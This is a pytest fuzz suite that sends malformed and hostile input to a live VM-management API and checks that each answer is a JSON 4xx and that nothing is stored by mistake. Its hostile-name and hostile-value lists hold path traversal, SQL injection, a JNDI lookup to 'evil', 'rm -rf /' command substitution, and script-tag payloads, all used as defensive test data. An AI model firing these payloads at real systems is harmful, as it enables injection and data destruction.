"""Hand-written hostile input against the live server: every answer a JSON 4xx, nothing stored by mistake.

Oversized and chunked bodies, wrong types, unknown fields, deep nesting, content types
that are not JSON, huge numbers, names that would break XML or paths, and labels and
annotations whose values look like markup, SQL, templates or paths (stored and returned
verbatim, never interpreted).
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from tests.conftest import LiveServer
from tests.fuzz.conftest import Figures

MIB = 1024 * 1024

VALID: dict[str, dict[str, Any]] = {
    "hosts": {"kind": "Host", "metadata": {"name": "h1"}, "spec": {"uri": "sim://h1", "cluster": "c1"}},
    "storagepools": {
        "kind": "StoragePool",
        "metadata": {"name": "p1"},
        "spec": {"kind": "shared", "cluster": "c1", "capacity_gib": 100},
    },
    "networks": {
        "kind": "Network",
        "metadata": {"name": "n1"},
        "spec": {"kind": "bridge", "bridge": "br1", "cluster": "c1", "subnet": "10.99.0.0/24"},
    },
    "volumes": {"kind": "Volume", "metadata": {"name": "v1"}, "spec": {"pool": "p1", "size_gib": 5}},
    "vms": {
        "kind": "VirtualMachine",
        "metadata": {"name": "vm1"},
        "spec": {"run_policy": "Manual", "nics": [{"network": "n1"}]},
    },
    "snapshots": {"kind": "VirtualMachineSnapshot", "metadata": {"name": "s1"}, "spec": {"vm": "vm1"}},
    "operations": {
        "kind": "VirtualMachineOperation",
        "metadata": {"name": "o1"},
        "spec": {"vm": "vm1", "type": "Start"},
    },
}
KINDS = list(VALID)


def create(client: httpx.Client, plural: str, doc: dict[str, Any]) -> httpx.Response:
    """POST ``doc``; an operation is retried as Start or Stop until one applies to the VM's phase."""
    for attempt in range(200):
        if plural == "operations":
            doc["spec"]["type"] = ("Start", "Stop")[attempt % 2]
        response = client.post(f"/v1/{plural}", json=doc)
        if plural != "operations" or response.status_code != 409:
            break
        time.sleep(0.02)
    assert response.status_code == 201, response.text
    return response


@pytest.fixture(scope="module")
def api(shared_server: LiveServer) -> Iterator[httpx.Client]:
    """An admin client on a server that holds one valid object of every kind."""
    with shared_server.client("admin") as client:
        for plural in KINDS:
            create(client, plural, json.loads(json.dumps(VALID[plural])))
        yield client


def assert_error(response: httpx.Response, *statuses: int) -> dict[str, Any]:
    """A 4xx (one of ``statuses`` if given) with a JSON body holding a non-empty reason and message."""
    where = (
        f"{response.request.method} {response.request.url} -> {response.status_code}: {response.text[:300]}"
    )
    assert 400 <= response.status_code < 500, where
    if statuses:
        assert response.status_code in statuses, where
    assert response.headers["content-type"].startswith("application/json"), where
    body = response.json()
    assert isinstance(body, dict), where
    assert isinstance(body.get("reason"), str) and body["reason"], where
    assert isinstance(body.get("message"), str) and body["message"], where
    return body


def names_of(client: httpx.Client, plural: str) -> set[str]:
    response = client.get(f"/v1/{plural}")
    assert response.status_code == 200, response.text
    return {o["metadata"]["name"] for o in response.json()["items"]}


def with_name(plural: str, name: str) -> dict[str, Any]:
    doc = json.loads(json.dumps(VALID[plural]))
    doc["metadata"]["name"] = name
    if plural == "networks":  # a second network with n1's subnet in its cluster would overlap it
        del doc["spec"]["subnet"]
    return doc


# ------------------------------------------------------------------ body size


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("POST", "/v1/vms"),
        ("PUT", "/v1/vms/vm1"),
        ("PATCH", "/v1/vms/vm1"),
        ("POST", "/v1/settings"),
        ("PUT", "/v1/settings/migration.max_per_cluster"),
        ("POST", "/v1/tokens"),
        ("POST", "/v1/hosts/h1/maintenance"),
        ("POST", "/v1/hosts/h1/faults"),
    ],
)
def test_oversized_bodies_are_413(api: httpx.Client, figures: Figures, method: str, path: str) -> None:
    # a well-formed JSON document just over the limit: only its size is wrong
    doc = with_name("vms", "big")
    doc["metadata"]["annotations"] = {f"k{i}": "x" * 4000 for i in range(64)}
    content = json.dumps(doc).encode()
    content += b" " * (MIB + 1 - len(content))
    response = api.request(method, path, content=content, headers={"content-type": "application/json"})
    figures.add("bad_input")
    assert assert_error(response, 413)["reason"] == "PayloadTooLarge"
    assert "big" not in names_of(api, "vms")


@pytest.mark.parametrize("size", [10, 3 * MIB])
def test_chunked_bodies_cannot_slip_past_the_limit(api: httpx.Client, figures: Figures, size: int) -> None:
    """Without a Content-Length the size is unknown up front: such bodies are refused, not read unbounded."""
    doc = with_name("vms", "chunked")
    content = json.dumps(doc).encode()
    content += b" " * max(0, size - len(content))

    def chunks() -> Iterator[bytes]:
        for start in range(0, len(content), 64 * 1024):
            yield content[start : start + 64 * 1024]

    response = api.post("/v1/vms", content=chunks(), headers={"content-type": "application/json"})
    figures.add("bad_input")
    assert response.request.headers.get("transfer-encoding") == "chunked"
    assert assert_error(response, 411, 413)["reason"] in ("LengthRequired", "PayloadTooLarge")
    assert "chunked" not in names_of(api, "vms")


# ------------------------------------------------------------------ wrong types, unknown fields

WRONG_TYPES: list[tuple[str, Any]] = [
    ("body is a list", [VALID["vms"]]),
    ("body is a string", "vm1"),
    ("body is a number", 7),
    ("body is null", None),
    ("metadata is a list", {"kind": "VirtualMachine", "metadata": ["name", "x1"]}),
    ("metadata is a string", {"kind": "VirtualMachine", "metadata": "x1"}),
    ("metadata is a number", {"kind": "VirtualMachine", "metadata": 5}),
    ("metadata is a bool", {"kind": "VirtualMachine", "metadata": True}),
    ("name is a number", {"kind": "VirtualMachine", "metadata": {"name": 12}}),
    ("name is null", {"kind": "VirtualMachine", "metadata": {"name": None}}),
    ("labels is a list", {"kind": "VirtualMachine", "metadata": {"name": "x1", "labels": ["a"]}}),
    ("label value is a number", {"kind": "VirtualMachine", "metadata": {"name": "x1", "labels": {"a": 1}}}),
    ("label value is an object", {"kind": "VirtualMachine", "metadata": {"name": "x1", "labels": {"a": {}}}}),
    ("annotations is a string", {"kind": "VirtualMachine", "metadata": {"name": "x1", "annotations": "a=b"}}),
    ("spec is a list", {"kind": "VirtualMachine", "metadata": {"name": "x1"}, "spec": []}),
    ("cpu is a word", {"kind": "VirtualMachine", "metadata": {"name": "x1"}, "spec": {"cpu": "two"}}),
    ("cpu is a float", {"kind": "VirtualMachine", "metadata": {"name": "x1"}, "spec": {"cpu": 1.5}}),
    ("cpu is a list", {"kind": "VirtualMachine", "metadata": {"name": "x1"}, "spec": {"cpu": [1]}}),
    ("disks is an object", {"kind": "VirtualMachine", "metadata": {"name": "x1"}, "spec": {"disks": {}}}),
    (
        "disk without a volume",
        {"kind": "VirtualMachine", "metadata": {"name": "x1"}, "spec": {"disks": [{"boot_order": 1}]}},
    ),
    ("kind is a number", {"kind": 3, "metadata": {"name": "x1"}}),
    ("kind of another resource", {"kind": "Host", "metadata": {"name": "x1"}}),
    ("apiVersion is wrong", {"apiVersion": "v2", "kind": "VirtualMachine", "metadata": {"name": "x1"}}),
    (
        "resource_version is a word",
        {"kind": "VirtualMachine", "metadata": {"name": "x1", "resource_version": "x"}},
    ),
    (
        "created_at is not a time",
        {"kind": "VirtualMachine", "metadata": {"name": "x1", "created_at": "soon"}},
    ),
]

UNKNOWN_FIELDS: list[tuple[str, dict[str, Any], str]] = [
    ("top level", {"kind": "VirtualMachine", "metadata": {"name": "x1"}, "extra": 1}, "extra"),
    ("metadata", {"kind": "VirtualMachine", "metadata": {"name": "x1", "owner": "me"}}, "owner"),
    ("spec", {"kind": "VirtualMachine", "metadata": {"name": "x1"}, "spec": {"gpus": 2}}, "gpus"),
    (
        "nested spec",
        {"kind": "VirtualMachine", "metadata": {"name": "x1"}, "spec": {"placement": {"zone": "a"}}},
        "zone",
    ),
    (
        "disk",
        {
            "kind": "VirtualMachine",
            "metadata": {"name": "x1"},
            "spec": {"disks": [{"volume": "v1", "bus": "scsi"}]},
        },
        "bus",
    ),
]


@pytest.mark.parametrize(("what", "body"), WRONG_TYPES, ids=[w for w, _ in WRONG_TYPES])
@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH"])
def test_wrong_types_are_4xx(api: httpx.Client, figures: Figures, what: str, body: Any, method: str) -> None:
    path = "/v1/vms" if method == "POST" else "/v1/vms/vm1"
    before = api.get("/v1/vms/vm1").json()
    response = api.request(method, path, json=body)
    figures.add("bad_input")
    if method == "PATCH" and what.startswith("name is"):
        # a merge patch takes the name from the path: one in the body is overwritten, so this is harmless
        assert response.status_code == 200, response.text
    else:
        assert_error(response, 400, 404, 409, 422)
    assert "x1" not in names_of(api, "vms")
    after = api.get("/v1/vms/vm1").json()
    assert after["spec"] == before["spec"] and after["metadata"]["labels"] == before["metadata"]["labels"]


@pytest.mark.parametrize(("where", "body", "field"), UNKNOWN_FIELDS, ids=[w for w, _, _ in UNKNOWN_FIELDS])
@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH"])
def test_unknown_fields_are_named_in_a_422(
    api: httpx.Client, figures: Figures, where: str, body: dict[str, Any], field: str, method: str
) -> None:
    if method == "POST":
        response = api.post("/v1/vms", json=body)
    else:
        doc = json.loads(json.dumps(body))
        doc["metadata"]["name"] = "vm1"
        response = api.request(method, "/v1/vms/vm1", json=doc)
    figures.add("bad_input")
    error = assert_error(response, 422)
    assert error["reason"] == "Invalid" and field in error["message"]
    assert "x1" not in names_of(api, "vms")


@pytest.mark.parametrize("plural", KINDS)
def test_unknown_spec_fields_for_every_kind(api: httpx.Client, figures: Figures, plural: str) -> None:
    doc = with_name(plural, "unknown-field")
    doc["spec"]["surprise"] = True
    response = api.post(f"/v1/{plural}", json=doc)
    figures.add("bad_input")
    assert "surprise" in assert_error(response, 422)["message"]
    patched = api.patch(f"/v1/{plural}/{VALID[plural]['metadata']['name']}", json={"spec": {"surprise": 1}})
    figures.add("bad_input")
    assert "surprise" in assert_error(patched, 422)["message"]


# ------------------------------------------------------------------ deep nesting


@pytest.mark.parametrize("depth", [100, 900, 1100, 5000, 100_000])
@pytest.mark.parametrize("shape", ["objects", "arrays"])
@pytest.mark.parametrize(
    ("method", "path"), [("POST", "/v1/vms"), ("PATCH", "/v1/vms/vm1"), ("PUT", "/v1/vms/vm1")]
)
def test_deeply_nested_json_is_a_4xx(
    api: httpx.Client, figures: Figures, depth: int, shape: str, method: str, path: str
) -> None:
    open_, close = ('{"a":', "}") if shape == "objects" else ("[", "]")
    nested = open_ * depth + "1" + close * depth
    content = '{"kind": "VirtualMachine", "metadata": {"name": "vm1"}, "spec": {"deep": ' + nested + "}}"
    before = api.get("/v1/vms/vm1").json()
    response = api.request(method, path, content=content, headers={"content-type": "application/json"})
    figures.add("bad_input")
    assert_error(response, 400, 413, 422)
    assert api.get("/v1/vms/vm1").json()["spec"] == before["spec"]


@pytest.mark.parametrize("depth", [100, 1100, 100_000])
def test_deeply_nested_merge_patch_of_labels(api: httpx.Client, figures: Figures, depth: int) -> None:
    """A merge patch recurses into what it is given: depth must end in a 4xx, not a RecursionError."""
    content = '{"metadata": {"labels": ' + '{"a":' * depth + '"x"' + "}" * depth + "}}"
    response = api.patch("/v1/vms/vm1", content=content, headers={"content-type": "application/json"})
    figures.add("bad_input")
    assert_error(response, 400, 413, 422)


# ------------------------------------------------------------------ not JSON

NOT_JSON: list[tuple[str, str | None, bytes]] = [
    ("text/plain", "text/plain", json.dumps(VALID["vms"] | {"metadata": {"name": "nj1"}}).encode()),
    ("form", "application/x-www-form-urlencoded", b"kind=VirtualMachine&metadata.name=nj1"),
    (
        "multipart",
        "multipart/form-data; boundary=xx",
        b'--xx\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n--xx--\r\n',
    ),
    ("xml", "application/xml", b"<vm><name>nj1</name></vm>"),
    ("yaml", "application/yaml", b"kind: VirtualMachine\nmetadata:\n  name: nj1\n"),
    ("octets", "application/octet-stream", b"\x00\x01\x02\xff"),
    ("no content type", None, b"kind: VirtualMachine"),
    ("json with garbage", "application/json", b'{"kind": "VirtualMachine"} trailing'),
    ("truncated json", "application/json", b'{"kind": "VirtualMachine", "metadata": {"name": '),
    ("single quotes", "application/json", b"{'kind': 'VirtualMachine'}"),
    ("invalid utf-8", "application/json", b'{"kind": "VirtualMachine", "metadata": {"name": "\xff\xfe"}}'),
    ("empty", "application/json", b""),
    ("whitespace", "application/json", b"   \n\t "),
    (
        "NaN",
        "application/json",
        b'{"kind": "VirtualMachine", "metadata": {"name": "nj1"}, "spec": {"cpu": NaN}}',
    ),
    (
        "Infinity",
        "application/json",
        b'{"kind": "VirtualMachine", "metadata": {"name": "nj1"}, "spec": {"cpu": Infinity}}',
    ),
    ("json content type with charset", "application/json; charset=latin-1", b'{"kind": 1}'),
]


@pytest.mark.parametrize(("what", "content_type", "content"), NOT_JSON, ids=[w for w, _, _ in NOT_JSON])
@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("POST", "/v1/vms"),
        ("PUT", "/v1/vms/vm1"),
        ("PATCH", "/v1/vms/vm1"),
        ("POST", "/v1/settings"),
        ("POST", "/v1/tokens"),
    ],
)
def test_bodies_that_are_not_json_are_4xx(
    api: httpx.Client,
    figures: Figures,
    what: str,
    content_type: str | None,
    content: bytes,
    method: str,
    path: str,
) -> None:
    headers = {"content-type": content_type} if content_type else {}
    before = api.get("/v1/vms/vm1").json()
    response = api.request(method, path, content=content, headers=headers)
    figures.add("bad_input")
    assert_error(response, 400, 415, 422)
    assert "nj1" not in names_of(api, "vms")
    after = api.get("/v1/vms/vm1").json()
    assert after["spec"] == before["spec"] and after["metadata"]["labels"] == before["metadata"]["labels"]


# ------------------------------------------------------------------ huge numbers

HUGE = [2**31, 2**63, 2**64 + 1, 10**100, -(10**100), 1e308, -1]


@pytest.mark.parametrize("value", HUGE, ids=[str(v)[:12] for v in HUGE])
@pytest.mark.parametrize(
    "field",
    ["spec.cpu", "spec.memory_mib", "spec.termination_grace_period_s", "spec.disks.0.boot_order"],
)
def test_huge_numbers_in_a_spec_are_422(api: httpx.Client, figures: Figures, value: Any, field: str) -> None:
    doc = with_name("vms", "huge")
    doc["spec"]["disks"] = [{"volume": "v1"}]
    target: Any = doc
    *parents, last = field.split(".")
    for part in parents:
        target = target[int(part)] if part.isdigit() else target[part]
    target[int(last) if last.isdigit() else last] = value
    response = api.post("/v1/vms", json=doc)
    figures.add("bad_input")
    assert assert_error(response, 422)["reason"] == "Invalid"
    assert "huge" not in names_of(api, "vms")


@pytest.mark.parametrize("value", [2**63, 2**64 + 1, 10**100, -(10**100), -1])
@pytest.mark.parametrize("field", ["resource_version", "generation"])
@pytest.mark.parametrize("method", ["PUT", "PATCH"])
def test_huge_numbers_in_metadata_never_reach_the_store(
    api: httpx.Client, figures: Figures, value: int, field: str, method: str
) -> None:
    before = api.get("/v1/vms/vm1").json()
    mark = f"{method}-{field}-{value}"[:60].replace("-", "m")
    doc = json.loads(json.dumps(before))
    doc.pop("status")
    doc["metadata"][field] = value
    doc["metadata"]["labels"] = {"huge": mark}
    if method == "PATCH":
        doc = {"metadata": {field: value, "labels": {"huge": mark}}}
    response = api.request(method, "/v1/vms/vm1", json=doc)
    figures.add("bad_input")
    if field == "resource_version":
        # no object has that version: a stale write (409) or an impossible one (422), never a 5xx
        assert_error(response, 409, 422)
        assert api.get("/v1/vms/vm1").json()["metadata"]["labels"].get("huge") != mark
    else:
        # generation is the server's: what a request says is ignored
        assert response.status_code in (200, 409, 422), response.text
        if response.status_code == 200:
            assert response.json()["metadata"]["generation"] == before["metadata"]["generation"]


@pytest.mark.parametrize("value", [2**63, 10**100, -(10**100), 1e308, 1.5, "3", None, [3], {"v": 3}])
def test_huge_or_wrong_setting_values_are_4xx(api: httpx.Client, figures: Figures, value: Any) -> None:
    key = "migration.max_per_cluster"
    before = api.get(f"/v1/settings/{key}").json()
    response = api.put(f"/v1/settings/{key}", json={"spec": {"value": value}})
    figures.add("bad_input")
    if value == "3" and response.status_code == 200:
        pass  # a numeric string may be read as the number it spells
    else:
        assert_error(response, 400, 422)
        assert api.get(f"/v1/settings/{key}").json()["spec"] == before["spec"]


@pytest.mark.parametrize(
    "query",
    [
        {"after_id": 2**63},
        {"after_id": 10**100},
        {"after_id": -1},
        {"after_id": "x"},
        {"limit": 0},
        {"limit": 10**30},
        {"limit": -(10**30)},
        {"name": "n" * 256},
        {"kind": "k" * 65},
    ],
)
def test_bad_event_queries_are_422(api: httpx.Client, figures: Figures, query: dict[str, Any]) -> None:
    response = api.get("/v1/events", params=query)
    figures.add("bad_input")
    assert assert_error(response, 422)["reason"] == "Invalid"


@pytest.mark.parametrize("query", [{"kind": "<x>"}, {"name": "a/b"}, {"kind": "vms", "name": "\u202e\u0000"}])
def test_odd_event_filters_find_nothing(api: httpx.Client, figures: Figures, query: dict[str, Any]) -> None:
    response = api.get("/v1/events", params=query)
    figures.add("bad_input")
    assert response.status_code == 200 and response.json()["items"] == []


# ------------------------------------------------------------------ hostile names

HOSTILE_NAMES = [
    "<x>",
    "<x/>",
    "a&b",
    "]]>",
    "a/b",
    "..",
    ".",
    "../../etc/passwd",
    "%2F",
    "a%2Fb",
    "%00",
    "a\x00b",
    "\x00",
    "é",
    "名前",
    "emoji-\U0001f600",
    "\u202ertl",
    "a" * 64,
    "a" * 300,
    "a" * 5000,
    "UPPER",
    "-lead",
    "trail-",
    "with space",
    "new\nline",
    "tab\t",
    "quote'",
    'dq"',
    "semi;colon",
    "back\\slash",
    "q?x=1",
    "h#frag",
    "' OR '1'='1",
    "${jndi:ldap://x}",
    "{{7*7}}",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=[repr(n)[:30] for n in HOSTILE_NAMES])
@pytest.mark.parametrize("plural", KINDS)
def test_hostile_names_are_refused_on_create(
    api: httpx.Client, figures: Figures, name: str, plural: str
) -> None:
    before = names_of(api, plural)
    response = api.post(f"/v1/{plural}", json=with_name(plural, name))
    figures.add("bad_input")
    assert assert_error(response, 422)["reason"] == "Invalid"
    assert names_of(api, plural) == before


def _quoted(name: str) -> list[str]:
    """The ways a name can end up in a path: raw (where httpx allows it) and percent-encoded."""
    from urllib.parse import quote

    return sorted({quote(name, safe=""), quote(name, safe="/%"), name if name.isprintable() else quote(name)})


@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=[repr(n)[:30] for n in HOSTILE_NAMES])
@pytest.mark.parametrize("plural", [*KINDS, "settings"])
def test_hostile_names_in_paths_are_4xx(api: httpx.Client, figures: Figures, name: str, plural: str) -> None:
    before = {p: names_of(api, p) for p in KINDS}
    for segment in _quoted(name):
        for method in ("GET", "PUT", "PATCH", "DELETE"):
            body = {"spec": {"value": 1}} if plural == "settings" else with_name(plural, "x1")
            if method == "PATCH" and plural != "settings":
                body = {"metadata": {"labels": {"a": "b"}}}
            response = api.request(
                method, f"/v1/{plural}/{segment}", json=None if method in ("GET", "DELETE") else body
            )
            figures.add("bad_input")
            if segment in ("..", ".") and method == "GET" and response.status_code == 200:
                # the client resolves dot segments: /v1/vms/.. is /v1/ (404) or /v1/vms/. is /v1/vms (the list)
                assert "items" in response.json()
                continue
            assert_error(response, 404, 405, 422)
        for sub in ("maintenance", "faults"):
            response = api.post(
                f"/v1/hosts/{segment}/{sub}", json={"kind": "crash"} if sub == "faults" else {}
            )
            figures.add("bad_input")
            assert_error(response, 404, 405, 422)
    assert {p: names_of(api, p) for p in KINDS} == before


@pytest.mark.parametrize("name", ["<x>", "a/b", "..", "\x00", "a" * 300, "UPPER", "é"])
def test_hostile_token_names_are_422(api: httpx.Client, figures: Figures, name: str) -> None:
    response = api.post("/v1/tokens", json={"name": name, "role": "viewer"})
    figures.add("bad_input")
    assert_error(response, 422)


@pytest.mark.parametrize("role", ["root", "Admin", "", None, 1, ["admin"]])
def test_unknown_token_roles_are_422(api: httpx.Client, figures: Figures, role: Any) -> None:
    response = api.post("/v1/tokens", json={"name": "t1", "role": role})
    figures.add("bad_input")
    assert_error(response, 422)


@pytest.mark.parametrize("references", ["vm", "pool", "snapshot", "network"])
@pytest.mark.parametrize("name", ["<x>", "a/b", "..", "\x00", "a" * 300])
def test_hostile_references_are_422(api: httpx.Client, figures: Figures, references: str, name: str) -> None:
    if references == "vm":
        doc = with_name("operations", "bad-ref")
        doc["spec"]["vm"] = name
        plural = "operations"
    elif references == "pool":
        doc = with_name("volumes", "bad-ref")
        doc["spec"]["pool"] = name
        plural = "volumes"
    elif references == "network":
        doc = with_name("vms", "bad-ref")
        doc["spec"]["nics"] = [{"network": name}]
        plural = "vms"
    else:
        doc = with_name("volumes", "bad-ref")
        doc["spec"]["source"] = {"snapshot": name}
        plural = "volumes"
    response = api.post(f"/v1/{plural}", json=doc)
    figures.add("bad_input")
    assert assert_error(response, 422)["reason"] == "Invalid"
    assert "bad-ref" not in names_of(api, plural)


# ------------------------------------------------------------------ networks and NICs

HOSTILE_ADDRESSES: list[Any] = [
    "999.1.1.1",
    "10.99.0.1/33",
    "::1",
    "10.99.0.7; rm -rf /",
    "<x>",
    "",
    True,
    167772161,
    -1,
    10**100,
    [],
    {"ip": "10.99.0.7"},
]


@pytest.mark.parametrize("value", HOSTILE_ADDRESSES, ids=[repr(v)[:16] for v in HOSTILE_ADDRESSES])
@pytest.mark.parametrize("field", ["nic.ip", "nic.mac", "subnet", "gateway", "dns_servers.0", "range.start"])
def test_hostile_addresses_are_422_and_write_nothing(
    api: httpx.Client, figures: Figures, value: Any, field: str
) -> None:
    if field.startswith("nic."):
        plural, doc = "vms", with_name("vms", "bad-address")
        doc["spec"]["nics"] = [{"network": "n1", field[4:]: value}]
    else:
        plural, doc = "networks", with_name("networks", "bad-address")
        doc["spec"]["subnet"] = "10.98.0.0/24"
        parent, _, index = field.partition(".")
        doc["spec"][parent] = (
            {"start": value, "end": "10.98.0.9"} if index == "start" else [value] if index else value
        )
    claims_before = api.get("/v1/networks/n1").json()["spec"]
    response = api.post(f"/v1/{plural}", json=doc)
    figures.add("bad_input")
    assert assert_error(response, 422)["reason"] == "Invalid"
    assert "bad-address" not in names_of(api, plural)
    assert api.get("/v1/networks/n1").json()["spec"] == claims_before


@pytest.mark.parametrize("vlan", [0, 4095, -1, 10**100, "vlan", 1.5, []])
def test_vlans_out_of_range_are_422(api: httpx.Client, figures: Figures, vlan: Any) -> None:
    doc = with_name("networks", "bad-vlan")
    doc["spec"] = {**doc["spec"], "subnet": "10.97.0.0/24", "vlan": vlan}
    response = api.post("/v1/networks", json=doc)
    figures.add("bad_input")
    assert assert_error(response, 422)["reason"] == "Invalid"
    assert "bad-vlan" not in names_of(api, "networks")


# ------------------------------------------------------------------ hostile label and annotation values

HOSTILE_VALUES = [
    "<script>alert(1)</script>",
    "<x>",
    "]]><!--",
    "&amp;&lt;",
    "'; DROP TABLE objects; --",
    "' OR '1'='1",
    "{{7*7}}",
    "${jndi:ldap://evil/a}",
    "$(rm -rf /)",
    "`id`",
    "%2F%2e%2e%00",
    "../../etc/passwd",
    "a/b\\c",
    '{"json": [1, 2]}',
    "null",
    "",
    " leading and trailing ",
    "line\nbreak\r\nand\ttab",
    "\u0000nul\u0000",
    "\u202eright-to-left",
    "名前 \U0001f600 ünïcödé",
    "\ud7ff\ue000\uffff",
    "x" * 4096,
]


@pytest.mark.parametrize("plural", KINDS)
def test_hostile_label_and_annotation_values_round_trip_verbatim(
    api: httpx.Client, figures: Figures, plural: str
) -> None:
    values = {f"k{i}": value for i, value in enumerate(HOSTILE_VALUES)}
    doc = with_name(plural, f"verbatim-{plural}")
    doc["metadata"]["labels"] = dict(values)
    doc["metadata"]["annotations"] = {f"example.com/{k}": v for k, v in values.items()}
    created = create(api, plural, doc)
    figures.add("bad_input", 2 * len(values))

    def check(obj: dict[str, Any]) -> None:
        assert obj["metadata"]["labels"] == values
        user = {k: v for k, v in obj["metadata"]["annotations"].items() if k.startswith("example.com/")}
        assert user == doc["metadata"]["annotations"]

    name = doc["metadata"]["name"]
    check(created.json())
    check(api.get(f"/v1/{plural}/{name}").json())
    listed = [o for o in api.get(f"/v1/{plural}").json()["items"] if o["metadata"]["name"] == name]
    check(listed[0])
    # a patch of something else keeps them as they are; a patch of one of them changes only that one
    patched = api.patch(f"/v1/{plural}/{name}", json={"metadata": {"labels": {"k0": "<b>bold</b>"}}})
    assert patched.status_code == 200, patched.text
    values["k0"] = "<b>bold</b>"
    check(patched.json())
    check(api.get(f"/v1/{plural}/{name}").json())
    # and they travel through the raw bytes of the response unchanged (no HTML escaping)
    raw = api.get(f"/v1/{plural}/{name}").content
    assert json.dumps("<b>bold</b>").encode() in raw or b"<b>bold</b>" in raw


@pytest.mark.parametrize(
    "labels",
    [
        {"<x>": "v"},
        {"a/b/c": "v"},
        {"..": "v"},
        {"": "v"},
        {"k" * 64: "v"},
        {"\x00": "v"},
        {"key": "x" * 4097},
        {f"k{i}": "v" for i in range(65)},
    ],
    ids=["markup", "two-slashes", "dots", "empty", "long-key", "nul", "long-value", "too-many"],
)
def test_invalid_label_keys_are_422(api: httpx.Client, figures: Figures, labels: dict[str, str]) -> None:
    doc = with_name("vms", "bad-labels")
    doc["metadata"]["labels"] = labels
    figures.add("bad_input", 2)
    assert_error(api.post("/v1/vms", json=doc), 422)
    assert_error(api.patch("/v1/vms/vm1", json={"metadata": {"labels": labels}}), 422)
    assert "bad-labels" not in names_of(api, "vms")


# ------------------------------------------------------------------ methods


@pytest.mark.parametrize("method", ["TRACE", "OPTIONS", "CONNECT", "PROPFIND"])
@pytest.mark.parametrize("path", ["/v1/vms", "/v1/vms/vm1", "/v1/events", "/v1/tokens"])
def test_unknown_methods_are_405_with_allow(
    api: httpx.Client, figures: Figures, method: str, path: str
) -> None:
    response = api.request(method, path)
    figures.add("bad_input")
    assert_error(response, 405)
    assert response.headers.get("allow")
